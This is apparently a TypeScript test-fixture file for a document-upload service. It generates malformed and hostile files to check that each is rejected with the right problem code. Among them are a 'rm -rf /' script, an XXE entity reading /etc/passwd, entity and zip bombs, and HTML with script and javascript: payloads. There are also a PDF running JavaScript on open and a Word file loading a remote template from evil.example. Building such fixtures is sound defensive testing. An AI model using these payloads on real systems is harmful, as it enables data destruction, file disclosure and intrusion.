import { deflateSync } from 'node:zlib';
import type { DocumentProblem } from '@snapwell/contract/library/documents/document-problems';
import { anArchive, claiming, encrypted } from '../../archive/hostile-archives.factory.ts';
import { aPdf, aScan, body } from './pdf.factory.ts';
import { aPicture } from './picture.factory.ts';

const OLE = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
const wide = (text: string) => Buffer.from(text, 'utf16le');
const old = (stream: string) => Buffer.concat([OLE, Buffer.alloc(600), wide(stream), Buffer.alloc(200)]);
const latin = (text: string) => Buffer.from(text, 'latin1');

const TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const wordXml = (inside: string, before = '') =>
  `<?xml version="1.0"?>${before}<w:document ${W}><w:body>${inside}</w:body></w:document>`;
const run = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
const ROOT_RELATIONS =
  '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>';

/** A Word file of these parts, as small as one can be. */
export const aWordFile = (document: string, others: Record<string, string> = {}) =>
  anArchive({ '[Content_Types].xml': TYPES, '_rels/.rels': ROOT_RELATIONS, 'word/document.xml': document, ...others });

const slides = (ids: string, others: Record<string, string> = {}) =>
  anArchive({
    '[Content_Types].xml': TYPES,
    'ppt/presentation.xml': `<?xml version="1.0"?><p:presentation xmlns:p="p" xmlns:r="r"><p:sldIdLst>${ids}</p:sldIdLst></p:presentation>`,
    ...others,
  });

const manySlides = Array.from({ length: 501 }, (_, i) => `<p:sldId id="${256 + i}" r:id="rId${i}"/>`).join('');
const ENTITIES = '<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>';
const EXTERNAL = '<!DOCTYPE d [<!ENTITY secret SYSTEM "file:///etc/passwd">]>';

interface BadDocument {
  readonly name: string;
  readonly problem: DocumentProblem;
  readonly make: () => Buffer | string | Promise<Buffer>;
}
const bad = (name: string, problem: DocumentProblem, make: BadDocument['make']): BadDocument => ({
  name,
  problem,
  make,
});

/** Forty files that cannot become a lesson, with the answer that each gets. */
export const badDocuments: readonly BadDocument[] = [
  bad('nothing.docx', 'empty', () => Buffer.alloc(0)),
  bad('blank.txt', 'empty', () => ' \n\t \n'),
  bad('letter.doc', 'old_word', () => old('WordDocument')),
  bad('talk.ppt', 'old_slides', () => old('PowerPoint Document')),
  bad('figures.xls', 'spreadsheet', () => old('Workbook')),
  bad('note.msg', 'mail', () => old('__properties')),
  bad('drawing.vsd', 'old_office', () => old('VisioDocument')),
  bad('secret.docx', 'protected', () => old('EncryptedPackage')),
  bad('figures.xlsx', 'spreadsheet', () =>
    anArchive({ '[Content_Types].xml': TYPES, 'xl/workbook.xml': '<workbook/>' }),
  ),
  bad('table.csv', 'spreadsheet', () => 'Name;Ward\nAnn;East\n'),
  bad('letter.odt', 'open_document', () => anArchive({ mimetype: 'application/vnd.oasis.opendocument.text' })),
  bad('sums.ods', 'spreadsheet', () => anArchive({ mimetype: 'application/vnd.oasis.opendocument.spreadsheet' })),
  bad('book.epub', 'e_book', () => anArchive({ mimetype: 'application/epub+zip' })),
  bad('letter.pages', 'pages', () => anArchive({ 'Index/Document.iwa': 'x' })),
  bad('all.zip', 'archive', () => anArchive({ 'a.txt': 'a', 'b.txt': 'b' })),
  bad('all.rar', 'archive', () => latin('Rar!\u001a\u0007\u0001\0 and so on')),
  bad('all.7z', 'archive', () => Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4])),
  bad('all.gz', 'archive', () => Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0])),
  bad('letter.rtf', 'rich_text', () => '{\\rtf1\\ansi Hello}'),
  bad('print.ps', 'postscript', () => '%!PS-Adobe-3.0\nshowpage\n'),
  bad('photo.jpg', 'picture', () => Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46])),
  bad('photo named as Word.docx', 'picture', () => aPicture(1)),
  bad('drawing.svg', 'picture', () => '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'),
  bad('film.mp4', 'recording', () => latin('\0\0\0\u0020ftypisom\0\0\0\0')),
  bad('talk.mp3', 'recording', () => latin('ID3\u0004\0\0\0\0\0\0')),
  bad('setup.exe', 'program', () => latin('MZ\u0090\0\u0003\0\0\0')),
  bad('script.sh', 'program', () => '#!/bin/sh\nrm -rf /\n'),
  bad('code.js', 'program', () => 'export const a = 1;\n'),
  bad('data.json', 'data', () => '{"a": [1, 2]}'),
  bad('feed.xml', 'data', () => '<?xml version="1.0"?><rss/>'),
  bad('message.eml', 'mail', () => 'From: a@example.org\nSubject: Hello\n\nHello\n'),
  bad('noise.bin', 'unknown_format', () => Buffer.from([1, 2, 3, 4, 0, 5, 6, 7, 8, 14, 15])),
  bad('cut off.docx', 'damaged', async () => (await aWordFile(wordXml(run('Hello')))).subarray(0, 200)),
  bad('without its text.docx', 'damaged', () => anArchive({ '[Content_Types].xml': TYPES })),
  bad('broken XML.pptx', 'damaged', () => anArchive({ 'ppt/presentation.xml': '<p:presentation><p:sldIdLst>' })),
  bad('entities in entities.docx', 'damaged', () => aWordFile(wordXml(run('&b;'), ENTITIES))),
  bad('reads a file of ours.docx', 'damaged', () => aWordFile(wordXml(run('&secret;'), EXTERNAL))),
  bad('with a password inside.docx', 'protected', async () => encrypted(await aWordFile(wordXml(run('Hello'))))),
  bad('says it is huge.docx', 'unpacks_too_large', async () => claiming(await aWordFile(wordXml(run('Hello'))), 3e9)),
  bad('a bomb.docx', 'unpacks_too_large', () => aWordFile(wordXml(run('a'.repeat(30_000_000))))),
  bad('no text.docx', 'no_text', () => aWordFile(wordXml('<w:p/>'))),
  bad('501 slides.pptx', 'too_many_pages', () => slides(manySlides)),
  bad('no slides.pptx', 'no_text', () => slides('')),
  bad('scan.pdf', 'scan', aScan),
  bad('locked.pdf', 'protected', () => aPdf((pdf) => void body(pdf, 'Hello'), { userPassword: 'secret' })),
  bad('cut off.pdf', 'damaged', () => '%PDF-1.7\n1 0 obj\n<< /Type /Catalog'),
  bad('empty pages.pdf', 'no_text', () => aPdf((pdf) => void pdf.addPage())),
  bad('16,000 lines.txt', 'too_many_lines', () => 'One line.\n\n'.repeat(16_000)),
  bad('nested.html', 'nested_too_deeply', () => `<!doctype html>${'<div><blockquote>'.repeat(60_000)}x`),
];

/** What would harm, were it opened by a program that does what it says. */
export const HOSTILE_HTML = `<!doctype html><h1>Rules</h1><p>Read <a href="javascript:fetch('/api')">this</a>,
<a href="vbscript:x">that</a> and <a href="data:text/html,<script>alert(1)</script>">those</a>.</p>
<img src="https://tracker.example/pixel.png"><img src=x onerror="alert(1)"><svg onload="alert(1)"><text>x</text></svg>
<script>alert(1)</script><iframe src="https://example.org"></iframe><object data="x.swf"></object>
<form action="https://evil.example"><button formaction="javascript:alert(1)">Go</button></form>
<p>[link](javascript:alert(1)) &lt;script&gt;alert(2)&lt;/script&gt; ![x](https://tracker.example/2.png)</p>
<style>@import url(https://evil.example/a.css)</style><p style="background:url(https://evil.example)">End.</p>`;

/** A PDF that runs a script when it is opened, and fetches a page. */
export function aHostilePdf(): Buffer {
  const text = deflateSync(Buffer.from('BT /F1 12 Tf 72 720 Td (Wash your hands for 30 seconds.) Tj ET'));
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(2\\)) >>] >> >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /AA << /O << /S /URI /URI (https://evil.example) >> >> >>',
    `<< /Length ${text.length} /Filter /FlateDecode >>\nstream\n${text.toString('latin1')}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  const offsets: number[] = [];
  let pdf = '%PDF-1.7\n';
  for (const [i, object] of objects.entries()) {
    offsets.push(pdf.length);
    pdf += `${i + 1} 0 obj\n${object}\nendobj\n`;
  }
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  return latin(
    `${pdf}xref\n0 6\n0000000000 65535 f \n${table}trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n${pdf.length}\n%%EOF\n`,
  );
}

/** A Word file with macros, a picture from elsewhere, a template from elsewhere and a link that runs. */
export const aHostileWordFile = () =>
  aWordFile(
    wordXml(
      `${run('Wash your hands.')}<w:p><w:hyperlink r:id="rId3" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:r><w:t>Run</w:t></w:r></w:hyperlink></w:p>`,
    ),
    {
      'word/vbaProject.bin': 'macros',
      'word/_rels/document.xml.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="https://tracker.example/p.png" TargetMode="External"/><Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="javascript:alert(1)" TargetMode="External"/></Relationships>`,
      'word/_rels/settings.xml.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
    },
  );
